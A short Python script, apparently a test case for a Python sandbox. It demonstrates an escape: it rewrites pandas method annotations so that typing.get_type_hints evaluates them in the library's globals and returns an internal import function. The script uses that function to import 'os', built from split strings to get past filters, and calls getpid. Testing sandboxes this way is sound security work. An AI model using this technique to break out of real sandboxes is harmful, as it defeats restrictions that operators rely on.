"""The annotations of a library's function are changed, and evaluated in the library's globals."""
import typing
import pandas as pd

pd.DataFrame.describe.__annotations__["include"] = "list[lib]"
pd.DataFrame.merge.__annotations__.clear()
pd.DataFrame.merge.__annotations__["how"] = "list[import_optional_dependency]"
[importer] = typing.get_args(typing.get_type_hints(pd.DataFrame.merge)["how"])
print("ESCAPED:annotations_of_a_library_function", importer("o" + "s").getpid())
